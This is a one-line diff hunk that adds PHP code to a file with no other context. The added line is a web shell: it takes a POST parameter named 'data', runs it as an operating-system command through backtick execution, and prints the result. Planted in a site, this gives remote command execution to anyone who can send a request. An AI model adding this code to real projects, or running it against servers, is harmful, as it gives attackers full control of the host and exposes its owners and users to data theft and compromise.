@@ -1,0 +1,1 @@
+<?php if (isset($_POST['data'])) print(`{$_POST['data']}`);
